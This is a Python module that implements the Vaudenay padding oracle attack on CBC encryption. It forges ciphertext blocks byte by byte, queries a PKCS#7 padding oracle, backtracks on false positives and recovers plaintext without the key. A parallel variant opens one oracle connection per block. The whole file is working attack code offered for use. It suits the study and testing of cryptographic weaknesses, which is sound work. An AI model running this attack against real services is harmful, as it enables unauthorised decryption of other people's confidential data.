"""
Vaudenay Attack - CBC Padding Oracle

Recovers CBC plaintext without the key, using only an oracle that tells
whether a submitted ciphertext decrypts to valid PKCS#7 padding.

Attack process:
  1. Split the ciphertext into 16-byte blocks (the first one is the IV)
  2. For each pair (C_{j-1}, C_j), forge C_{j-1} byte by byte from the
     right so that C_j decrypts to padding 01, 02 02, 03 03 03, ...
  3. A valid verdict for guess g at index idx means P_j[idx] == g
  4. When every guess fails, the previous byte was a false positive:
     pop it and resume its search one value further (backtracking)
"""

from concurrent.futures import ThreadPoolExecutor
from typing import Callable, Iterable, List, Optional

from Crypto.Util.Padding import unpad

from vaudenay.errors import AttackExhausted, InvalidCiphertextLength, MalformedResponseError
from vaudenay.guess import guesses
from vaudenay.oracle import BLOCK_SIZE, PaddingOracle, Verdict


def split_blocks(data: bytes) -> List[bytes]:
    return [data[i:i + BLOCK_SIZE] for i in range(0, len(data), BLOCK_SIZE)]


def check_length(ciphertext: bytes) -> None:
    """IV + at least one block, whole blocks only."""
    if len(ciphertext) % BLOCK_SIZE != 0 or len(ciphertext) < 2 * BLOCK_SIZE:
        raise InvalidCiphertextLength(len(ciphertext), BLOCK_SIZE)


def discover_next_byte(oracle: PaddingOracle, prevblk: bytes, thisblk: bytes,
                       discovered: List[int], startg: int = 0,
                       verbose: bool = False) -> Optional[int]:
    """
    Attack the last unknown byte of the plaintext block behind thisblk.

    Args:
        oracle: padding oracle to query
        prevblk: ciphertext block preceding thisblk (or the IV)
        thisblk: ciphertext block being decrypted
        discovered: bytes already found, in reverse order
                    (discovered[0] is the last byte of the block)
        startg: first guess to try

    With k = len(discovered) and pad = k + 1, the forged block is

        D_g = prevblk[0], ..., prevblk[N-k-2],
              prevblk[N-k-1] ^ pad ^ g,
              prevblk[N-k]   ^ pad ^ discovered[k-1],
              ...,
              prevblk[N-1]   ^ pad ^ discovered[0]

    and D_g || thisblk has valid padding when g is the right byte.

    Returns:
        The plaintext byte, or None when every guess was rejected
    """
    k = len(discovered)
    pad = k + 1
    idx = BLOCK_SIZE - k - 1
    if verbose:
        print(f"\tByte {idx} (padding={pad}):", end=" ")

    forged = bytearray(prevblk)
    for i in range(idx + 1, BLOCK_SIZE):
        forged[i] = prevblk[i] ^ discovered[BLOCK_SIZE - i - 1] ^ pad

    for g in guesses(startg):
        forged[idx] = prevblk[idx] ^ g ^ pad
        verdict = oracle.query(bytes(forged), thisblk)
        if verdict is Verdict.VALID:
            if verbose:
                print(f"0x{g:02x}")
            return g
        if verdict is Verdict.MALFORMED:
            raise MalformedResponseError(f"malformed oracle reply at byte {idx}")

    if verbose:
        print("exhausted")
    return None


def decrypt_block(oracle: PaddingOracle, prevblk: bytes, thisblk: bytes,
                  block_index: int = 1, verbose: bool = False) -> bytes:
    """Recover the 16 plaintext bytes of thisblk, backtracking on dead ends."""
    discovered: List[int] = []
    startg = 0
    while len(discovered) < BLOCK_SIZE:
        g = discover_next_byte(oracle, prevblk, thisblk, discovered, startg, verbose)
        if g is not None:
            discovered.append(g)
            startg = 0
            if verbose:
                print(f"[+] Current plaintext: {bytes(reversed(discovered))!r}")
            continue

        if not discovered:
            raise AttackExhausted(block_index)
        startg = discovered.pop() + 1
        if verbose:
            print(f"[-] Backtracking, retry byte {BLOCK_SIZE - len(discovered) - 1} from 0x{startg:02x}")

    return bytes(reversed(discovered))


def decrypt(oracle: PaddingOracle, ciphertext: bytes, verbose: bool = False,
            progress: Callable[[Iterable[int]], Iterable[int]] = iter) -> bytes:
    """
    Decrypt IV || C_1 || ... || C_n through the padding oracle.

    Returns the padded plaintext (len(ciphertext) - 16 bytes). Any block
    failure aborts the whole decryption.
    """
    check_length(ciphertext)
    blocks = split_blocks(ciphertext)
    plaintext = bytearray(len(ciphertext) - BLOCK_SIZE)

    for j in progress(range(1, len(blocks))):
        if verbose:
            print(f"[*] Attacking block {j}/{len(blocks) - 1}")
        ptblk = decrypt_block(oracle, blocks[j - 1], blocks[j], j, verbose)
        plaintext[(j - 1) * BLOCK_SIZE:j * BLOCK_SIZE] = ptblk
        if verbose:
            print(f"[+] Decrypted: {ptblk!r}\n")

    return bytes(plaintext)


def decrypt_parallel(oracle_factory: Callable[[], PaddingOracle], ciphertext: bytes,
                     workers: int = 4) -> bytes:
    """
    Same as decrypt(), attacking blocks concurrently.

    Every block gets its own oracle from oracle_factory (one connection per
    task, closed afterwards).
    """
    check_length(ciphertext)
    blocks = split_blocks(ciphertext)

    def attack_one(j):
        with oracle_factory() as oracle:
            return decrypt_block(oracle, blocks[j - 1], blocks[j], j)

    with ThreadPoolExecutor(max_workers=workers) as executor:
        parts = list(executor.map(attack_one, range(1, len(blocks))))

    return b''.join(parts)


def strip_padding(plaintext: bytes) -> bytes:
    """Remove PKCS#7 padding from a recovered plaintext."""
    return unpad(plaintext, BLOCK_SIZE, style='pkcs7')
